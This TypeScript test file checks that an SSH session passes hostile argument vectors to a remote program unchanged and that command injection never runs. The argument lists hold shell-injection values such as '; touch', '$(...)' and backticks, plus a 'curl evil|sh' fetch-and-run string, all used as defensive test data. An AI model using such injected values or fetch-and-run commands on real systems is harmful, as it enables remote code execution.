// Remote commands (root; lab "secs"): hostile argument vectors through SshSession.run to a real sshd in a lab
// host. The remote program receives exactly the argv given (printf '%s\0' and a node script print it back),
// argv[0] is a program name and never shell code, empty elements stay, and nothing else runs (marker files
// that an injection would create stay absent). Plus commandLine's own rules.
import { strict as assert } from "node:assert";
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";

import * as fc from "fast-check";

import { connectionSchema, SshSession } from "../../provider/ssh/connection";
import { commandLine, shellQuote } from "../../provider/ssh/quote";
import { createLab, destroyLab, type LabInventory } from "../lab-fixture";

const LAB = "secs";

describe("remote commands quoted element by element (lab secs, real sshd)", function () {
  let inv: LabInventory;
  let ssh: SshSession;
  let marker: string;

  before(async () => {
    inv = await createLab({ name: LAB, hosts: 1 });
    const h = inv.hosts[0];
    marker = join(inv.stateDir, "pwned");
    ssh = await SshSession.open(
      connectionSchema.parse({
        host: h.address,
        user: h.user,
        privateKey: readFileSync(h.privateKeyPath, "utf8"),
        hostKey: h.hostPublicKey,
      }),
    );
  });

  after(async () => {
    ssh?.dispose();
    await destroyLab(LAB);
  });

  /** What the remote printf receives, one element per NUL-terminated string (after a first "BEGIN", since
   *  printf with no argument still prints its format once). */
  async function received(args: string[]): Promise<string[]> {
    const r = await ssh.run(["printf", "%s\\0", "BEGIN", ...args]);
    assert.equal(r.stderr, "");
    const got = r.stdout.split("\0");
    assert.deepEqual([got[0], got.at(-1)], ["BEGIN", ""], JSON.stringify(r.stdout));
    return got.slice(1, -1);
  }

  const hostile = () => [
    `; touch ${marker}`,
    `| touch ${marker}`,
    `$(touch ${marker})`,
    `\`touch ${marker}\``,
    `a\ntouch ${marker}\n`,
    "it's",
    `"double" 'single' \\back\\slash`,
    "",
    "",
    "*",
    "/*",
    "?",
    "[a-z]*",
    "~",
    "~root",
    "$HOME",
    "${PATH}",
    "-rf",
    "--help",
    "-",
    " leading and trailing spaces ",
    "\t",
    "a&&b||c",
    "> /tmp/x",
    "<(echo hi)",
    "!!",
    "#comment",
    "ünïcödé ✓ 日本",
  ];

  it("hands every hostile argument to the remote program exactly, empty ones included, and runs nothing else", async () => {
    const args = hostile();
    assert.deepEqual(await received(args), args);
    assert.deepEqual(await received(["", "x", ""]), ["", "x", ""], "empty arguments keep their place");
    // The same through a node script that prints its argv as JSON.
    const r = await ssh.run([
      process.execPath,
      "-e",
      "console.log(JSON.stringify(process.argv.slice(1)))",
      ...args,
    ]);
    assert.deepEqual(JSON.parse(r.stdout), args);
    assert.equal(existsSync(marker), false, "no injected command ran");
  });

  it("treats argv[0] as a program name, never as shell code", async () => {
    // The Migration transfer command of issue 13: a whole shell line as the first element.
    for (const first of [
      `true; touch ${marker}`,
      `true | touch ${marker}`,
      `$(touch ${marker})`,
      `true\ntouch ${marker}`,
    ]) {
      const r = await ssh.run([first, "x"], { check: false });
      assert.equal(r.code, 127, `${JSON.stringify(first)} is looked up as a program: ${r.stderr}`);
    }
    await assert.rejects(ssh.run([`true; touch ${marker}`]), /failed \(exit 127\)/);
    assert.equal(existsSync(marker), false, "no injected command ran");
    // An ordinary program still runs with its arguments.
    assert.equal((await ssh.run(["echo", "-n", "a b", ""])).stdout, "a b ");
  });

  it("passes random argument vectors through unchanged (property, real sshd)", async () => {
    const arg = fc.string({ unit: "binary", maxLength: 40 }).filter((s) => !s.includes("\0"));
    await fc.assert(
      fc.asyncProperty(fc.array(arg, { maxLength: 6 }), async (args) => {
        assert.deepEqual(await received(args), args);
      }),
      { numRuns: 40 },
    );
    assert.equal(existsSync(marker), false);
  });

  it("quotes each element with single quotes and refuses what no program can receive", () => {
    assert.equal(shellQuote(""), "''");
    assert.equal(shellQuote("it's"), `'it'\\''s'`);
    assert.equal(
      commandLine(["rsync -a /srv x:/srv; curl evil|sh", ""]),
      `'rsync -a /srv x:/srv; curl evil|sh' ''`,
    );
    assert.throws(() => commandLine([]), {
      message: "a remote command needs at least one element (the program)",
    });
    assert.throws(() => commandLine(["echo", "a\0b"]), {
      message: "argv[1] contains a NUL byte, which no program can receive",
    });
  });
});
